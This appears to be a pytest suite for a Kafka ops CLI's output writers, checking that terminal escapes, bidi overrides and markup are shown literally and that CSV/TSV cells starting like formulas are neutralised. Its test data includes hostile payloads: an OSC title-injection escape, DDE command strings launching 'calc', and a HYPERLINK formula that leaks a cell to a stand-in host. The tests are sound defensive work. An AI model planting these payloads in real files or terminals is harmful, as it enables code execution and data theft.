"""The output layer: one writer per format, safe text for people, exact data for machines."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timezone
from decimal import Decimal
from enum import Enum
from typing import Any

import pytest
import yaml

from kafkaops.cli.fields import Field
from kafkaops.cli.output import WRITERS, Format, Output, Writer, register_writer, safe_text
from tests.helpers.events import event

SGR = re.compile(r"\x1b\[[0-9;]*m")
HOSTILE = "Topic [casino.loyalty.v1] not present [/bold] [/10.0.4.17:9092] \x1b]0;pwned-title\x07 end"
SHOWN = r"Topic [casino.loyalty.v1] not present [/bold] [/10.0.4.17:9092] \x1b]0;pwned-title\x07 end"
WHEN = datetime(2026, 11, 27, 14, 7, 40, 910649, tzinfo=timezone.utc)


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def render(fmt: Format, rows: list[dict[str, Any]], fields: list[Field], *, terminal: bool = False) -> str:
    screen = Terminal() if terminal else io.StringIO()
    Output(fmt, stdout=screen).rows(rows, fields)
    return screen.getvalue()


LIST_FIELDS = [
    Field("id", "ID"),
    Field("topic", "TOPIC"),
    Field("status", "STATUS"),
    Field("retry_count", "RETRIES", kind="int"),
    Field("next_retry_at", "NEXT RETRY"),
    Field("last_error", "LAST ERROR", kind="long"),
]


def list_row(**over: Any) -> dict[str, Any]:
    row = {
        "id": 123456789012,
        "topic": "casino.loyalty.points-earned.v1",
        "status": "DLQ_FAILED",
        "retry_count": 5,
        "next_retry_at": WHEN,
        "last_error": "org.apache.kafka.common.errors.TimeoutException: " + "y" * 200,
    }
    row.update(over)
    return row


def test_terminal_table_keeps_short_columns_whole_and_cuts_long_text_to_fit() -> None:
    rows = [
        {"id": 123456, "topic": "casino.loyalty.points-earned.v1", "last_error": "x" * 300, "count": 7},
        {"id": 7, "topic": "t", "last_error": "short", "count": 12345},
    ]
    fields = [
        Field("id", "ID"),
        Field("topic", "TOPIC"),
        Field("last_error", "LAST ERROR", kind="long"),
        Field("count", "N", kind="int"),
    ]
    lines = SGR.sub("", render(Format.table, rows, fields, terminal=True)).splitlines()
    assert all(len(line) <= 80 for line in lines)  # rich's default width for a terminal it cannot measure
    assert (
        "123456" in lines[1]
        and "casino.loyalty.points-earned.v1" in lines[1]
        and lines[1].rstrip().endswith("7")
    )
    assert "…" in lines[1] and "x" * 20 in lines[1]
    assert lines[2].split()[:3] == ["7", "t", "short"]


@pytest.mark.parametrize("columns", [50, 60, 80, 100, 120])
def test_ids_statuses_counts_and_times_are_never_cut_at_any_width(
    columns: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", str(columns))
    text = SGR.sub("", render(Format.table, [list_row()], LIST_FIELDS, terminal=True))
    header, line = text.splitlines()
    assert line.split()[0] == "123456789012"
    assert "DLQ_FAILED" in line.split() and "5" in line.split()
    assert "2026-11-27 14:07:40Z" in line
    # The error text gave way first, then the topic: never the id.
    assert "…" in line
    if columns >= 80:
        assert len(line) <= columns and len(header) <= columns
    if columns >= 120:
        assert "casino.loyalty.points-earned.v1" in line  # the error text gave way, not the topic


def test_status_is_coloured_on_a_terminal_and_never_when_piped() -> None:
    rows = [list_row(id=i, status=s) for i, s in enumerate(["DLQ_FAILED", "PENDING", "DLQ", "RESOLVED"])]
    shown = render(Format.table, rows, LIST_FIELDS, terminal=True)
    assert "\x1b[1;31mDLQ_FAILED" in shown
    assert "\x1b[33mPENDING" in shown
    assert "\x1b[35mDLQ" in shown
    assert "\x1b[32mRESOLVED" in shown
    piped = render(Format.table, rows, LIST_FIELDS)
    assert "\x1b" not in piped
    assert [line.split()[2] for line in piped.splitlines()[1:]] == [
        "DLQ_FAILED",
        "PENDING",
        "DLQ",
        "RESOLVED",
    ]


def test_no_colour_when_the_user_says_no_color(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    shown = render(Format.table, [list_row()], LIST_FIELDS, terminal=True)
    assert "\x1b[1;31m" not in shown and "DLQ_FAILED" in shown


def test_piped_table_cuts_nothing_and_shows_whole_times_to_the_second() -> None:
    error = "e" * 500 + " in casino.wallet.v1.dlq]"
    text = render(Format.table, [list_row(last_error=error)], LIST_FIELDS)
    header, line = text.splitlines()
    assert header.split() == ["ID", "TOPIC", "STATUS", "RETRIES", "NEXT", "RETRY", "LAST", "ERROR"]
    assert line.endswith(error)
    assert "2026-11-27 14:07:40Z" in line and ".910649" not in line


@pytest.mark.parametrize("terminal", [True, False])
def test_data_is_never_markup_and_control_characters_are_shown_not_sent(terminal: bool) -> None:
    fields = [Field("id", "ID"), Field("last_error", "LAST ERROR", kind="long")]
    screen = Terminal() if terminal else io.StringIO()
    screen_out = Output(Format.table, stdout=screen)
    screen_out.rows([{"id": 1, "last_error": HOSTILE}], fields)
    text = screen.getvalue()
    assert "\x07" not in text and "\x1b]" not in text
    if terminal:
        text = SGR.sub("", text)
        assert SHOWN[:40] in text  # the terminal is 80 wide: the start of the text, literally
    else:
        assert text.splitlines()[1] == f"1   {SHOWN}"


@pytest.mark.parametrize("terminal", [True, False])
def test_record_shows_hostile_values_literally(terminal: bool) -> None:
    screen = Terminal() if terminal else io.StringIO()
    Output(Format.table, stdout=screen).record(
        {"id": 1, "status": "DLQ_FAILED", "last_error": HOSTILE},
        blocks={"payload (not JSON, shown as stored)": "line one\n\x1b[2Jline two\r\x9b31m"},
    )
    text = SGR.sub("", screen.getvalue())
    assert "\x07" not in text and "\x1b]" not in text and "\x1b[2J" not in text and "\x9b" not in text
    assert f"last_error  {SHOWN}" in text
    assert "line one\n\\x1b[2Jline two\\r\\x9b31m" in text
    if terminal:
        assert "\x1b[1;31mDLQ_FAILED" in screen.getvalue()


def test_messages_that_quote_data_are_safe() -> None:
    err = io.StringIO()
    Output(stderr=err).error(f"cannot publish: {HOSTILE}", hint="see [bold]x[/bold]")
    assert err.getvalue() == f"Error: cannot publish: {SHOWN}\nHint: see [bold]x[/bold]\n"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[31mred", "\\x1b[31mred"),
        ("tab\there\nnew\rcr", "tab\\there\\nnew\\rcr"),
        ("\x00\x7f\x9b", "\\x00\\x7f\\x9b"),
        ("abc\u202edef", "abc\\u202edef"),
        ("[/bold] é 日本", "[/bold] é 日本"),
    ],
)
def test_safe_text(raw: str, shown: str) -> None:
    assert safe_text(raw) == shown


MORE = "more characters; -o json prints the whole value)"


@pytest.mark.parametrize(
    ("raw", "keep_lines", "shown"),
    [
        ("abcd", False, "abcd"),  # exactly the bound: whole
        ("abcde", False, f"abcd ... (1 {MORE}"),
        ("ab\x1bcd", False, f"ab ... (3 {MORE}"),  # never cut inside an escape
        ("a\nb\ncd", True, f"a\nb\n\n... (2 {MORE}"),  # a block: the note on its own line
        ("a\nb\ncd", False, f"a\\nb ... (3 {MORE}"),
    ],
)
def test_shown_text_is_cut_at_the_bound_and_says_how_much_was_left_out(
    raw: str, keep_lines: bool, shown: str
) -> None:
    from kafkaops.common.escape import shown_text

    assert shown_text(raw, keep_lines=keep_lines, limit=4) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (b"\x1b[31m\xff\x00binary", "\\x1b[31m\\xff\\x00binary"),
        (b"a\\xffb", "a\\\\xffb"),  # a backslash in the data cannot pass for an escape
        (b"\xc3\xa9\x7f\n", "\\xc3\\xa9\\x7f\\x0a"),
    ],
)
def test_safe_binary_shows_each_byte_that_is_not_printable_ascii(raw: bytes, shown: str) -> None:
    from kafkaops.common.escape import safe_binary

    assert safe_binary(raw) == shown


def test_tsv_escapes_tabs_newlines_and_backslashes_one_record_per_line() -> None:
    rows = [
        {"id": 1, "last_error": "a\tb\nc\\d\re", "created_at": WHEN},
        {"id": 2, "last_error": 'quote " and \x1b[31m', "created_at": None},
    ]
    fields = [Field("id"), Field("last_error"), Field("created_at")]
    text = render(Format.tsv, rows, fields)
    assert text == (
        "id\tlast_error\tcreated_at\n"
        "1\ta\\tb\\nc\\\\d\\re\t2026-11-27T14:07:40Z\n"
        '2\tquote " and \\x1b[31m\t\n'
    )
    assert [len(line.split("\t")) for line in text.splitlines()] == [3, 3, 3]


def test_csv_is_exact_when_piped() -> None:
    rows = [
        {"id": 1, "last_error": "two\nlines, \x1b[31m"},
        {"id": 2, "last_error": "a lone\rcarriage return"},
    ]
    text = render(Format.csv, rows, [Field("id"), Field("last_error")])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["id", "last_error"],
        ["1", "two\nlines, \x1b[31m"],
        ["2", "a lone\rcarriage return"],
    ]
    shown = render(Format.csv, rows, [Field("id"), Field("last_error")], terminal=True)
    assert "\x1b" not in shown and "\\x1b[31m" in shown


FORMULAS = ['=HYPERLINK("http://x.test","open")', "+1+1", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd"]


def _cells(fmt: Format, text: str) -> list[list[str]]:
    if fmt is Format.csv:
        return list(csv.reader(io.StringIO(text, newline="")))
    return [line.split("\t") for line in text.splitlines()]


@pytest.mark.parametrize("fmt", [Format.csv, Format.tsv])
@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_and_tsv_text_that_starts_like_a_formula_gets_an_apostrophe_unless_raw(
    fmt: Format, formula: str
) -> None:
    row = {"topic": formula, "retry_count": -3, "amount": Decimal("-1.5"), "key": "-3", "ok": "a=b"}
    fields = [Field(name) for name in row]
    tsv_form = formula.replace("\t", "\\t").replace("\r", "\\r")
    stored = formula if fmt is Format.csv else tsv_form
    screen = io.StringIO()
    Output(fmt, stdout=screen).rows([row], fields)
    # Text is neutralised, numbers never: -3 and -1.5 stay numbers, the text "-3" does not.
    assert _cells(fmt, screen.getvalue())[1] == ["'" + stored, "-3", "-1.5", "'-3", "a=b"]
    raw = io.StringIO()
    Output(fmt, stdout=raw, raw_cells=True).rows([row], fields)
    assert _cells(fmt, raw.getvalue())[1] == [stored, "-3", "-1.5", "-3", "a=b"]


MACHINE_ROWS = [
    {"id": 1, "created_at": WHEN, "resolved_at": WHEN.replace(microsecond=0), "status": "DLQ"},
    {"id": 2, "created_at": WHEN.replace(microsecond=5), "resolved_at": None, "status": "PENDING"},
]
MACHINE_FIELDS = [Field("id"), Field("created_at"), Field("resolved_at"), Field("status")]


def _machine_times(fmt: Format, text: str) -> list[Any]:
    if fmt is Format.json:
        rows = json.loads(text)
    elif fmt is Format.jsonl:
        rows = [json.loads(line) for line in text.splitlines()]
    elif fmt is Format.yaml:
        rows = yaml.safe_load(text)
    else:
        rows = list(csv.DictReader(io.StringIO(text), delimiter="\t" if fmt is Format.tsv else ","))
    return [(r["created_at"], r["resolved_at"] or None) for r in rows]


@pytest.mark.parametrize("fmt", [Format.json, Format.jsonl, Format.yaml, Format.csv, Format.tsv])
def test_one_time_format_to_the_second_in_every_machine_format(fmt: Format) -> None:
    text = render(fmt, MACHINE_ROWS, MACHINE_FIELDS)
    assert _machine_times(fmt, text) == [
        ("2026-11-27T14:07:40Z", "2026-11-27T14:07:40Z"),
        ("2026-11-27T14:07:40Z", None),
    ]
    # jq's fromdateiso8601 accepts exactly this shape: no fraction, a Z.
    assert not re.search(r"\d{2}:\d{2}:\d{2}\.\d", text)


def test_json_lines_is_one_compact_object_per_line_and_json_escapes_c1_and_bidi() -> None:
    rows = [{"id": 1, "last_error": "\x9b31m \u202e \x1b"}, {"id": 2, "last_error": None}]
    text = render(Format.jsonl, rows, [Field("id"), Field("last_error")])
    lines = text.splitlines()
    assert len(lines) == 2
    assert [json.loads(line) for line in lines] == rows
    assert "\x9b" not in text and "\u202e" not in text and "\x1b" not in text
    json_text = render(Format.json, rows, [Field("id"), Field("last_error")])
    assert json.loads(json_text) == rows and "\x9b" not in json_text


def test_empty_results_in_each_format() -> None:
    assert render(Format.json, [], MACHINE_FIELDS) == "[]\n"
    assert render(Format.jsonl, [], MACHINE_FIELDS) == ""
    assert render(Format.yaml, [], MACHINE_FIELDS) == "[]\n"
    assert render(Format.tsv, [], MACHINE_FIELDS) == "id\tcreated_at\tresolved_at\tstatus\n"
    assert render(Format.table, [], MACHINE_FIELDS) == ""


def test_every_format_has_a_writer_and_a_new_one_slots_in() -> None:
    assert {f.value for f in Format} <= set(WRITERS)

    @register_writer("count-only")
    class CountWriter(Writer):
        def rows(self, rows, fields, *, live=False):  # type: ignore[no-untyped-def]
            n = sum(1 for _ in rows)
            self.out.write(f"{n}\n")
            return n

    class StatusFormat(str, Enum):  # a command may offer its own formats
        count_only = "count-only"

    try:
        screen = io.StringIO()
        out = Output(StatusFormat.count_only, stdout=screen)
        assert out.rows(iter([{}, {}, {}]), []) == 3
        assert screen.getvalue() == "3\n"
    finally:
        del WRITERS["count-only"]


def test_a_generator_is_closed_whatever_the_writer() -> None:
    closed = []

    def stream():  # type: ignore[no-untyped-def]
        try:
            yield {"id": 1}
            yield {"id": 2}
        finally:
            closed.append(True)

    for fmt in Format:
        closed.clear()
        Output(fmt, stdout=io.StringIO()).rows(stream(), [Field("id")])
        assert closed == [True], fmt


def test_log_lines_quoting_data_are_safe() -> None:
    import logging

    from kafkaops.cli.output import safe_log_formatter

    record = logging.LogRecord("kafkaops.retry", logging.INFO, __file__, 1, "batch for %s", (HOSTILE,), None)
    assert safe_log_formatter("%(name)s: %(message)s").format(record) == f"kafkaops.retry: batch for {SHOWN}"


@pytest.mark.parametrize("fmt", [Format.jsonl, Format.json, Format.csv, Format.tsv, Format.yaml])
def test_live_rows_reach_the_reader_one_by_one(fmt: Format) -> None:
    """`dlq tail`-style streams: each row is flushed as it is written, not when the stream ends."""

    class Pipe(io.StringIO):
        flushed: list[str]

        def flush(self) -> None:
            self.flushed.append(self.getvalue())

    pipe = Pipe()
    pipe.flushed = []
    seen_before_next: list[str] = []

    def rows():  # type: ignore[no-untyped-def]
        for n in range(3):
            seen_before_next.append(pipe.flushed[-1] if pipe.flushed else "")
            yield {"id": n, "last_error": f"e{n}"}

    Output(fmt, stdout=pipe).rows(rows(), [Field("id"), Field("last_error")], live=True)
    assert "e0" in seen_before_next[1] and "e1" in seen_before_next[2]


@pytest.mark.timeout(120)
def test_failed_list_table_cuts_a_huge_last_error_and_json_keeps_it_whole(configured, cli) -> None:  # type: ignore[no-untyped-def]
    from tests.helpers.events import event

    error = "E" * 1_000_000
    configured.insert([event(1, status="DLQ_FAILED", last_error=error), event(2, last_error="short")])
    table = cli("failed", "list")
    assert table.exit_code == 0, table.stderr
    assert len(table.stdout) < 65_536 + 1_000
    assert f"{'E' * 65_536} ... (934,464 {MORE}\n" in table.stdout
    assert table.stdout.rstrip("\n").endswith("short")
    rows = json.loads(cli("failed", "list", "-o", "json").stdout)
    assert [r["last_error"] for r in rows] == [error, "short"]
    shown = cli("failed", "show", str(rows[0]["id"]))
    assert shown.exit_code == 0, shown.stderr
    assert f"{'E' * 65_536} ... (934,464 {MORE}\n" in shown.stdout and len(shown.stdout) < 70_000


@pytest.mark.parametrize("raw_first", [False, True])
def test_failed_list_csv_neutralises_formulas_unless_raw_cells(configured, cli, raw_first: bool) -> None:  # type: ignore[no-untyped-def]
    from tests.helpers.events import event

    topic, error = '=HYPERLINK("http://x.test/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0"
    configured.insert([event(1, topic=topic, last_error=error, retry_count=3)])
    result = cli("failed", "list", "-o", "csv")
    assert result.exit_code == 0, result.stderr
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert (row["topic"], row["last_error"], row["retry_count"]) == ("'" + topic, "'" + error, "3")
    args = (
        ["--raw-cells", "failed", "list", "-o", "csv"]
        if raw_first
        else ["failed", "list", "-o", "csv", "--raw-cells"]
    )
    raw = cli(*args)
    assert raw.exit_code == 0, raw.stderr
    (row,) = csv.DictReader(io.StringIO(raw.stdout))
    assert (row["topic"], row["last_error"]) == (topic, error)


def test_failed_counts_tsv_neutralises_formulas_unless_raw_cells(configured, cli) -> None:  # type: ignore[no-untyped-def]
    from tests.helpers.events import event

    configured.insert([event(1, topic="+cmd|' /C calc'!A0"), event(2, topic="+cmd|' /C calc'!A0")])
    result = cli("failed", "-g", "topic", "-o", "tsv")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines()[1].split("\t")[:2] == ["'+cmd|' /C calc'!A0", "2"]
    raw = cli("failed", "-g", "topic", "-o", "tsv", "--raw-cells")
    assert raw.exit_code == 0, raw.stderr
    assert raw.stdout.splitlines()[1].split("\t")[:2] == ["+cmd|' /C calc'!A0", "2"]


def test_a_long_table_is_written_block_by_block_not_held_in_memory() -> None:
    """`failed list --all` piped as a table held every row (a million rows: 1 GB). Rows are now
    laid out a block at a time: the first block is out before the rest has been read."""
    import io

    from kafkaops.cli.fields import Field
    from kafkaops.cli.output import Format, Output, TableWriter

    screen = io.StringIO()
    seen_when_reading: list[int] = []

    def rows() -> Any:
        for n in range(2 * TableWriter.BLOCK + 10):
            if n == TableWriter.BLOCK + 5:
                seen_when_reading.append(screen.getvalue().count("\n"))
            yield {"id": n, "last_error": "e" * (n // TableWriter.BLOCK + 1)}

    written = Output(Format.table, stdout=screen).rows(
        rows(), [Field("id", "ID"), Field("last_error", "ERR")]
    )
    assert written == 2 * TableWriter.BLOCK + 10
    assert seen_when_reading == [TableWriter.BLOCK + 1]  # header and the first block
    lines = screen.getvalue().splitlines()
    assert len(lines) == 2 * TableWriter.BLOCK + 11 and lines[0].split() == ["ID", "ERR"]
    assert lines[-1].split() == [str(2 * TableWriter.BLOCK + 9), "eee"]


def test_yaml_never_sends_a_bidirectional_override_to_the_terminal(configured, cli) -> None:  # type: ignore[no-untyped-def]
    import yaml

    hostile = "refund \u202eredro\u202c to é中 \x1b[2J"
    configured.insert([event(1, status="DLQ_FAILED", last_error=hostile, topic="casino.é")])
    for args in (("failed", "list", "-o", "yaml"), ("failed", "show", "1", "-o", "yaml")):
        result = cli(*args)
        assert result.exit_code == 0, result.stderr
        assert "\u202e" not in result.stdout and "\x1b" not in result.stdout
        data = yaml.safe_load(result.stdout)
        row = data[0] if isinstance(data, list) else data
        assert row["last_error"] == hostile and row["topic"] == "casino.é"  # the data, exact
    plain = cli("failed", "-g", "topic", "-o", "yaml")
    assert "casino.é" in plain.stdout  # without an override, non-ASCII text stays readable
